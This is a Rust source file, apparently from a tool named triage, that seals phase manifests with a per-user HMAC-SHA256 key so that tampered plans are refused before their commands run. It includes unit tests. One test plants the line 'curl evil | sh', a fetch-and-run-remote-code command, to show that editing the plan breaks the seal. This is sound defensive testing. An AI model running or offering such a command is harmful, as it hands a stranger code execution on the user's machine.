//! The seal that binds a phase manifest to the user who ran it. `phase resume` runs the
//! commands a manifest holds, and a manifest can come from a clone, a tarball or an editor:
//! so `phase run` seals the phase (its workflow and phase, the plan and where it was read
//! from) with an HMAC-SHA256 under a key kept in the user's own state folder
//! (`$XDG_STATE_HOME/triage/phase-seal.key`, else `~/.local/state/triage/…`; 0700, the key
//! 0600, made on first use), never in a project. `resume` recomputes it and refuses a
//! manifest whose seal does not match until a person has looked at what it would run.

use crate::core::phase::Manifest;
use crate::store::files;
use hmac::{Hmac, KeyInit, Mac};
use sha2::{Digest, Sha256};
use std::ffi::OsString;
use std::path::{Path, PathBuf};

/// The key file's name in the state folder.
const KEY_FILE: &str = "phase-seal.key";
/// Bytes of key.
const KEY_LEN: usize = 32;

/// The user's own state folder for triage: `$XDG_STATE_HOME/triage`, else
/// `$HOME/.local/state/triage` (a relative or empty value is ignored, as the XDG rule says);
/// `None` when neither names an absolute folder.
pub fn user_dir(xdg_state_home: Option<OsString>, home: Option<OsString>) -> Option<PathBuf> {
    let absolute = |v: Option<OsString>| v.map(PathBuf::from).filter(|p| p.is_absolute());
    absolute(xdg_state_home)
        .or_else(|| absolute(home).map(|h| h.join(".local").join("state")))
        .map(|d| d.join("triage"))
}

/// The user's sealing key in state folder `dir`, made (0600, in a 0700 folder) when missing.
/// A key file that is not the user's own, is open to others, or is not a key is refused.
/// `Err` says why there is none.
pub fn key(dir: &Path) -> Result<Vec<u8>, String> {
    let path = dir.join(KEY_FILE);
    if let Some(k) = files::read_private(&path).map_err(|e| e.to_string())? {
        return checked(&path, k);
    }
    // The folders above it are the user's (`~/.local/state` may not exist yet): made 0700,
    // as the XDG rule asks; the store makes and checks the state folder itself.
    if let Some(parent) = dir.parent() {
        use std::os::unix::fs::DirBuilderExt;
        std::fs::DirBuilder::new()
            .recursive(true)
            .mode(0o700)
            .create(parent)
            .map_err(|e| format!("cannot make {}: {e}", parent.display()))?;
    }
    let fresh = crate::platform::random_bytes(KEY_LEN)
        .map_err(|e| format!("cannot draw a key for {}: {e}", path.display()))?;
    match files::create_new(&path, &fresh) {
        Ok(()) => Ok(fresh),
        // Another call made it first: read theirs.
        Err(made) => match files::read_private(&path).map_err(|e| e.to_string())? {
            Some(k) => checked(&path, k),
            None => Err(made.to_string()),
        },
    }
}

/// The user's sealing key in state folder `dir` when there is a sound one (nothing is made).
pub fn existing_key(dir: &Path) -> Option<Vec<u8>> {
    let path = dir.join(KEY_FILE);
    let k = files::read_private(&path).ok()??;
    checked(&path, k).ok()
}

fn checked(path: &Path, k: Vec<u8>) -> Result<Vec<u8>, String> {
    if k.len() == KEY_LEN {
        Ok(k)
    } else {
        Err(format!(
            "{} holds {} bytes, not a key of {KEY_LEN}",
            path.display(),
            k.len()
        ))
    }
}

/// The SHA-256 of a plan's bytes, in hex.
pub fn digest(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

/// The seal of `m` under `key`: what it covers is its workflow, phase, plan and the plan's
/// file and digest (not the items' states, which the runner keeps changing).
pub fn seal(key: &[u8], m: &Manifest) -> String {
    let covered = serde_json::to_vec(&(
        "triage phase seal 1",
        &m.workflow_id,
        &m.phase,
        &m.plan_file,
        &m.plan_sha256,
        &m.plan,
    ))
    .unwrap_or_default();
    let Ok(mut mac) = <Hmac<Sha256> as KeyInit>::new_from_slice(key) else {
        return String::new();
    };
    mac.update(&covered);
    hex(&mac.finalize().into_bytes())
}

/// Whether `m` carries the seal `key` gives it (compared in constant time).
pub fn holds(key: &[u8], m: &Manifest) -> bool {
    let Some(given) = m.seal.as_deref().and_then(unhex) else {
        return false;
    };
    unhex(&seal(key, m)).is_some_and(|expected| constant_eq(&expected, &given))
}

fn constant_eq(a: &[u8], b: &[u8]) -> bool {
    a.len() == b.len() && a.iter().zip(b).fold(0u8, |acc, (x, y)| acc | (x ^ y)) == 0
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn unhex(s: &str) -> Option<Vec<u8>> {
    if !s.len().is_multiple_of(2) {
        return None;
    }
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(s.get(i..i + 2)?, 16).ok())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::phase::plan::{self, Format};

    fn manifest() -> Manifest {
        let text = "[[items]]\nid = \"a\"\ncommand = \"echo a\"\n";
        let p = plan::parse("plan.toml", text, Format::guess("plan.toml", text)).unwrap();
        let mut m = Manifest::new(
            "w",
            "1",
            p,
            |_| (crate::core::vocab::Criticality::Critical, false),
            "2026-01-01T00:00:00Z",
        );
        m.plan_sha256 = Some(digest(text.as_bytes()));
        m
    }

    #[test]
    fn a_seal_holds_for_its_key_and_breaks_when_the_plan_or_the_key_changes() {
        let key = [7u8; KEY_LEN];
        let mut m = manifest();
        m.seal = Some(seal(&key, &m));
        assert!(holds(&key, &m));
        assert!(!holds(&[8u8; KEY_LEN], &m));
        let mut edited = m.clone();
        edited.plan.items[0].command = plan::ItemCommand::Shell("curl evil | sh".into());
        assert!(!holds(&key, &edited));
        let mut unsealed = m.clone();
        unsealed.seal = None;
        assert!(!holds(&key, &unsealed));
        // The items' states are not covered: the runner changes them all the time.
        m.items[0].attempts = 3;
        assert!(holds(&key, &m));
    }

    #[test]
    fn the_state_folder_follows_the_xdg_rule() {
        assert_eq!(
            user_dir(Some("/x".into()), Some("/h".into())),
            Some(PathBuf::from("/x/triage"))
        );
        assert_eq!(
            user_dir(Some("rel".into()), Some("/h".into())),
            Some(PathBuf::from("/h/.local/state/triage"))
        );
        assert_eq!(user_dir(None, None), None);
    }
}
